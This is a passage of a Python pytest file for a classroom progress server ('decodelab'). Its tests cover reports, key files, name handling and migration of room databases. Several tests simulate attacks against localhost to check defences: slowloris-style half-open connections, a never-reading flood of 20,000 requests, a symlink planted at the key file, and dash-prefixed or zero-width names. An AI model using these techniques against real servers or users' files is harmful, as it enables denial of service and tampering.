    monkeypatch.setenv("DECODELAB_CACHE", str(tmp_path / "cache"))
    statuses = {KEYS[0]: ExerciseStatus(KEYS[0], DONE, [Line(FIRST[KEYS[0]], "passed", "")])}
    for chosen in (None, "Aiko"):
        if chosen is None:
            monkeypatch.delenv(NAME_ENV, raising=False)
        else:
            monkeypatch.setenv(NAME_ENV, chosen)
        report_to_room(RoomLink("http://127.0.0.1:1", "abcd2345"), statuses)
        assert name_was_chosen() is (chosen is not None) and sent[-1]["named"] is (chosen is not None), (
            f"with ${NAME_ENV}={chosen!r}, the report's 'named' is {sent[-1]['named']!r} (learner {sent[-1]['learner']!r})")
    with pytest.raises(ReportError, match="'named'"):
        validate_report(dict(report("Aiko", **{KEYS[0]: DONE}), named="yes"))
    assert validate_report(dict(report("jovyan@x", **{KEYS[0]: DONE}), named=False)).named is False
    assert validate_report(report("Aiko", **{KEYS[0]: DONE})).named is True, "a report without 'named' must count as chosen"


def test_a_room_file_from_before_keys_keeps_its_learners(tmp_path):
    import sqlite3

    path = tmp_path / "old-room.sqlite"
    old = sqlite3.connect(path)
    old.executescript("""
        CREATE TABLE settings (name TEXT PRIMARY KEY, value TEXT NOT NULL);
        CREATE TABLE learners (name TEXT PRIMARY KEY, first_seen REAL NOT NULL, last_seen REAL NOT NULL);
        CREATE TABLE progress (learner TEXT NOT NULL, exercise TEXT NOT NULL, state TEXT NOT NULL,
                               failing TEXT NOT NULL, updated REAL NOT NULL, PRIMARY KEY (learner, exercise));""")
    old.execute("INSERT INTO learners VALUES ('ann', 1.0, 1.0)")
    old.execute(f"INSERT INTO progress VALUES ('ann', '{KEYS[0]}', 'done', '[]', 1.0)")
    old.commit()
    old.close()
    old = sqlite3.connect(path)  # a name an older room took before its rules were strict
    old.execute("INSERT INTO learners VALUES ('\u200bAiko', 1.0, 1.0)")
    old.commit()
    old.close()
    forgot = subprocess.run([sys.executable, "-m", "decodelab.cli", "room", "forget", "\u200bAiko", "--db", str(path)],
                            cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert forgot.returncode == 0, f"an older room's name could not be forgotten: {forgot.stderr}"
    store = RoomStore(path)
    try:
        assert store.summary()["people"][0]["done"] == 1, "a room file written before keys lost its learner's progress"
        store.record(validate_report(report("ann", "anns-laptop-key-0001", **{KEYS[1]: DONE})))
        with pytest.raises(NameTaken):
            store.record(validate_report(report("ann", "someone-elses-key-02", **{KEYS[1]: NOT_STARTED})))
        assert store.summary()["people"][0]["done"] == 2
    finally:
        store.close()


def test_the_machine_key_is_made_once_and_kept_private(tmp_path, monkeypatch):
    monkeypatch.setenv("DECODELAB_CACHE", str(tmp_path / "cache"))
    first, second = learner_key(), learner_key()
    path = tmp_path / "cache" / KEY_FILE
    assert first == second, f"learner_key() gave {first!r}, then {second!r}: a learner's name would be lost"
    assert validate_report(report("ann", first, **{KEYS[0]: DONE})).key == first
    assert path.stat().st_mode & 0o077 == 0, f"{path} is readable by others: mode {oct(path.stat().st_mode)}"
    path.write_text("not a key\n")
    assert learner_key() != "not a key" and learner_key() == learner_key(), "a damaged key file was not replaced"


def test_a_key_that_cannot_be_kept_costs_one_line(tmp_path, monkeypatch):
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    monkeypatch.setenv("DECODELAB_CACHE", str(blocker / "cache"))  # under a file: no folder can be made
    statuses = {KEYS[0]: ExerciseStatus(KEYS[0], DONE, [Line(FIRST[KEYS[0]], "passed", "")])}
    line = report_to_room(RoomLink("http://127.0.0.1:1", "abcd2345"), statuses)
    assert line is not None and line.startswith("room: not sent") and "unaffected" in line, (
        f"report_to_room with an unwritable cache said {line!r}; expected one line saying nothing was sent")


def test_connections_held_half_open_are_let_go_in_time(tmp_path):
    """A few hundred connections that never finish their request took every file the server may
    open; it answered no one until they were closed. Each now has REQUEST_SECONDS to finish."""
    port, files = free_port(), 200
    server, join, view = serve(tmp_path / "room.sqlite", port, open_files=files)
    held: list[socket.socket] = []
    try:
        steady = urllib.request.build_opener()
        for _ in range(files + 50):  # more than the server can hold: it accepts until its files run out
            try:
                connection = socket.create_connection(("127.0.0.1", port), timeout=2)
                connection.sendall(b"POST /join/abcd2345/report HTTP/1.1\r\nHost: room\r\n")
                held.append(connection)
            except OSError:
                break
        started, answered, tries = time.monotonic(), None, []
        while time.monotonic() - started < REQUEST_SECONDS + 15:
            try:
                answered = steady.open(view + "/state", timeout=2).status
                break
            except OSError as error:
                tries.append(type(error).__name__)
                time.sleep(0.5)
        waited = time.monotonic() - started
    finally:
        for connection in held:
            connection.close()
        stop(server)
    assert answered == 200 and waited < REQUEST_SECONDS + 15, (
        f"with {len(held)} connections held half-open, the instructor's page got no answer for {waited:.0f} s "
        f"({tries[:3]}...); expected one within {REQUEST_SECONDS} s and a little more")
    printed = "".join(server.output)
    assert "Traceback" not in printed and printed.count("every connection this server may open is in use") == 1, (
        f"the server's terminal while out of files:\n{printed[-1500:]}\nexpected one plain line saying so")


def test_a_page_polling_on_one_connection_is_never_cut_off(tmp_path):
    port = free_port()
    server, join, view = serve(tmp_path / "room.sqlite", port)
    try:
        import http.client
        from urllib.parse import urlsplit

        path = urlsplit(view).path + "/state"
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
        statuses, sockets = [], set()
        started = time.monotonic()
        while time.monotonic() - started < REQUEST_SECONDS + 3:  # longer than one request's deadline
            connection.request("GET", path)
            response = connection.getresponse()
            response.read()
            statuses.append(response.status)
            sockets.add(id(connection.sock))
            time.sleep(1)
        connection.close()
    finally:
        stop(server)
    assert set(statuses) == {200} and len(sockets) == 1, (
        f"a page polling every second on one kept-alive connection: answers {sorted(set(statuses))}, "
        f"{len(sockets)} connections; expected every answer 200 on one connection")


def test_the_instructor_can_free_a_name(tmp_path):
    db = tmp_path / "room.sqlite"
    store = RoomStore(db)
    store.record(validate_report(report("Jos\u00e9", "old-laptop-key-00001", **{KEYS[0]: DONE})))
    store.record(validate_report(report("bea", **{KEYS[0]: DONE})))
    store.close()

    def room(*args: str) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-m", "decodelab.cli", "room", *args], cwd=ROOT,
                              capture_output=True, text=True, timeout=120)

    store = RoomStore(db)
    store.record(validate_report(report("-x", **{KEYS[0]: DONE})))
    store.close()
    dashed = room("forget", "--db", str(db), "--", "-x")
    assert dashed.returncode == 0, (dashed.returncode, dashed.stderr)
    freed = room("forget", "Jose\u0301", "--db", str(db))  # typed decomposed: the same name
    missing = room("forget", "nobody", "--db", str(db))
    no_file = room("forget", "bea", "--db", str(tmp_path / "no-such.sqlite"))
    assert freed.returncode == 0 and "forgot 'Jos\u00e9'" in freed.stdout, (freed.returncode, freed.stdout, freed.stderr)
    assert missing.returncode == 2 and "no learner named 'nobody'" in missing.stderr, (missing.returncode, missing.stderr)
    assert no_file.returncode == 2 and "no room file" in no_file.stderr, (no_file.returncode, no_file.stderr)
    store = RoomStore(db)
    try:
        assert [person["name"] for person in store.summary()["people"]] == ["bea"]
        store.record(validate_report(report("Jos\u00e9", "new-laptop-key-00002", **{KEYS[0]: NOT_STARTED})))
        assert store.summary()["people"][0]["done"] == 0, "a freed name kept the old machine's progress"
    finally:
        store.close()


def test_a_report_sent_in_chunks_is_refused_unread(client):
    body = json.dumps(report("ann", **{KEYS[0]: DONE})).encode()
    chunked = client.post("/join/abcd2345/report", content=iter([bytes([byte]) for byte in body]),
                          headers={"content-type": "application/json"})
    assert chunked.status_code == 411, f"a report sent in one-byte chunks got {chunked.status_code}, expected 411"
    assert client.get(f"/view/{client.view}/state").json()["learners"] == 0


def test_the_open_file_limit_is_raised_as_far_as_the_system_lets_it(monkeypatch):
    import resource

    from decodelab.room import server

    limits = {"soft": 256}

    def refuse_above_10240(which, values):
        if values[0] > 10240:
            raise ValueError("not allowed")  # macOS with no hard limit, past kern.maxfilesperproc
        limits["soft"] = values[0]

    monkeypatch.setattr(resource, "getrlimit", lambda which: (limits["soft"], resource.RLIM_INFINITY))
    monkeypatch.setattr(resource, "setrlimit", refuse_above_10240)
    assert server._more_open_files() == 10240, f"the limit stayed at {limits['soft']}; expected 10240"


def test_the_machine_key_is_never_written_through_a_link_or_taken_from_another(tmp_path, monkeypatch):
    monkeypatch.setenv("DECODELAB_CACHE", str(tmp_path / "cache"))
    (tmp_path / "cache").mkdir()
    precious = tmp_path / "notes.txt"
    precious.write_text("my notes\n")
    path = tmp_path / "cache" / KEY_FILE
    path.symlink_to(precious)
    key = learner_key()
    assert precious.read_text() == "my notes\n", "learner_key() wrote through a room-key link into another file"
    assert not path.is_symlink() and path.stat().st_mode & 0o077 == 0 and learner_key() == key
    planted = "planted-by-another-0001"
    path.write_text(planted + "\n")
    path.chmod(0o644)
    assert learner_key() != planted, "a room-key others can read was used"
    if os.getuid() == 0:  # only root can hand a file to another user
        path.write_text(planted + "\n")
        path.chmod(0o600)
        os.chown(path, 65534, 65534)
        assert learner_key() != planted, "a room-key another user owns was used"


def test_a_client_that_never_reads_is_cut_off_and_ctrl_c_still_stops(tmp_path):
    port = free_port()
    server, join, view = serve(tmp_path / "room.sqlite", port)
    # The instructor's page (5 kB an answer): 20,000 answers are far more than the kernel's
    # buffers hold (4 MB at most here), so the server must stop answering, however fast it is.
    request = f"GET {urllib.parse.urlsplit(view).path} HTTP/1.1\r\nHost: room\r\n\r\n".encode()

    def never_reading() -> socket.socket:
        connection = socket.socket()
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.connect(("127.0.0.1", port))
        connection.settimeout(2)
        try:
            connection.sendall(request * 20000)
        except TimeoutError:
            pass  # the server stopped reading: its answers are piling up
        return connection

    held = never_reading()
    try:
        # The deadline runs from the last answer the server finished, which on a loaded machine
        # can come seconds after the requests were sent: wait for the cut, within a bound.
        started, cut_after = time.monotonic(), None
        while cut_after is None and time.monotonic() - started < REQUEST_SECONDS + 45:
            try:
                held.send(request)
            except (ConnectionResetError, BrokenPipeError):
                cut_after = time.monotonic() - started
            except TimeoutError:
                pass  # our send buffer is full: the server is not reading, and not yet cut
            time.sleep(0.2)
        assert cut_after is not None, (
            f"a client that never read its answers still held its connection "
            f"{REQUEST_SECONDS + 45} s later; expected the server to cut it "
            f"{REQUEST_SECONDS} s after its last answer")
        second = never_reading()
        started = time.monotonic()
        stop(server)
        took = time.monotonic() - started
        second.close()
    finally:
        held.close()
        if server.poll() is None:
            server.kill()
    assert took < 10, f"Ctrl-C took {took:.1f} s to stop a room with a client that never reads"
